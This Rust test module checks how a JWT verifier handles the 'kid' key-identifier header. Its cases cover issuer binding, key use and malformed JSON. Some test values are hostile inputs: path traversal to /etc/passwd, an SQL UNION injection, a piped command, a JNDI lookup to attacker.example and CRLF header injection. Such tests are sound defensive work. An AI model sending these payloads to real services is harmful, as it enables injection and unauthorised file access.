//! `kid`: a name, and nothing but a name (RFC 7515 section 4.1.4).

use super::Case;
use super::signer::{
    ATTACKER_KEY, BARE, BARE_KEY, ENCRYPTION_KEY, OUR_KEY, OURS, PARTNER, PARTNER_KEY, PINNED,
    WRAPPING_KEY, claims, good, signed, signed_by, with_header, with_members,
};
use serde_json::json;

pub(super) fn cases() -> Vec<Case> {
    let named =
        |name: &str, kid: &str, want| Case::new(name, with_members(json!({"kid": kid})), want);
    let raw = |name: &str, kid: &str, want| {
        Case::new(name, with_header(format!(r#"{{"alg":"ES256","kid":{kid}}}"#)), want)
    };
    let by = |name: &str, key: u8, issuer: &str, header: &str, want| {
        Case::new(name, signed_by(key, issuer, header), want)
    };
    let (unknown, malformed, invalid) = ("key_unknown", "token_malformed", "signature_invalid");
    let plain = r#"{"alg":"ES256"}"#;
    let es256 = |kid: &str| json!({"alg": "ES256", "kid": kid}).to_string();
    let p256 = r#"{"alg":"ES256","kid":"p256"}"#;
    vec![
        // Optional: any key that can do the algorithm may have signed.
        by("no kid, one key of several", OUR_KEY, OURS, plain, "allowed"),
        by("no kid, the only key", PARTNER_KEY, PARTNER, plain, "allowed"),
        by("no kid, a key without a name", BARE_KEY, BARE, plain, "allowed"),
        by("a kid, a key without a name", BARE_KEY, BARE, p256, "allowed").open(),
        by("no kid, the attacker's key", ATTACKER_KEY, OURS, plain, invalid),
        by("no kid, a key without a name, but another's", OUR_KEY, BARE, plain, invalid),
        by("a good kid, the attacker's key", ATTACKER_KEY, OURS, p256, invalid),
        // Keys are one issuer's: RFC 8725 section 3.8.
        by("our issuer, the partner's key of the same name", PARTNER_KEY, OURS, p256, invalid),
        by("the partner's issuer, our key of the same name", OUR_KEY, PARTNER, p256, invalid),
        by("our issuer, the partner's key and no kid", PARTNER_KEY, OURS, plain, invalid),
        by("the partner's issuer and key", PARTNER_KEY, PARTNER, p256, "allowed"),
        by(
            "an issuer of nobody, our key",
            OUR_KEY,
            "https://attacker.example",
            p256,
            "issuer_unknown",
        ),
        // RFC 7517 sections 4.2 and 4.3 say what a key is for, not that it matters.
        by("a key that is to encrypt with", ENCRYPTION_KEY, OURS, &es256("encryption"), unknown)
            .open(),
        by("a key that is to wrap keys with", WRAPPING_KEY, OURS, &es256("wrapping"), unknown)
            .open(),
        by("a key that is to encrypt with, and no kid", ENCRYPTION_KEY, OURS, plain, invalid)
            .open(),
        named("kid of a key of a type of nobody", "future", unknown),
        named("kid unknown", "p257", unknown),
        named("kid in capitals", "P256", unknown),
        named("kid with a space behind", "p256 ", unknown),
        named("kid with a NUL behind", "p256\0", unknown),
        named("kid a NUL", "\0", unknown),
        // A name that no key has, rather than no name.
        named("kid empty", "", unknown).open(),
        named("kid a path to nothing", "../../../../dev/null", unknown),
        named("kid a path to the key", "/../p256", unknown),
        named("kid a path that is absolute", "/etc/passwd", unknown),
        named("kid SQL", "' UNION SELECT 'secret' -- ", unknown),
        named("kid a command", "p256|/usr/bin/id", unknown),
        named("kid an URL", "https://attacker.example/jwks.json", unknown),
        named("kid __proto__", "__proto__", unknown),
        named("kid constructor", "constructor", unknown),
        named("kid a lookup", "${jndi:ldap://attacker.example/a}", unknown),
        named("kid a line break", "p256\r\nx-user: root", unknown),
        named("kid not ASCII", "p\u{b2}56", unknown),
        named("kid in full width", "\u{ff50}256", unknown),
        named("kid of 8 KiB", &"k".repeat(8_192), unknown),
        named(
            "kid of another key of ours, which can do no such algorithm",
            "rsa",
            "algorithm_not_allowed",
        ),
        raw("kid in escapes", r#""p\u0032\u0035\u0036""#, "allowed"),
        raw("kid a number", "256", malformed),
        raw("kid 0", "0", malformed),
        raw("kid null", "null", malformed),
        raw("kid true", "true", malformed),
        raw("kid a list", r#"["p256"]"#, malformed),
        raw("kid an object", r#"{"p256":1}"#, malformed),
        raw("kid a lone surrogate", r#""\ud800""#, malformed),
        Case::new("a good token of a key for one algorithm", pinned("RS256"), "allowed"),
        Case::new(
            "a good token, of a key for another algorithm",
            pinned("PS256"),
            "algorithm_not_allowed",
        ),
        Case::new(
            "a good token of a longer hash, of a key for another algorithm",
            pinned("RS512"),
            "algorithm_not_allowed",
        ),
        Case::new("a good token of a key of many algorithms", good("PS512"), "allowed").open(),
    ]
}

/// Signed with this algorithm by the key that is for RS256.
fn pinned(algorithm: &str) -> String {
    signed(algorithm, json!({"alg": algorithm, "kid": PINNED}).to_string(), claims().to_string())
}
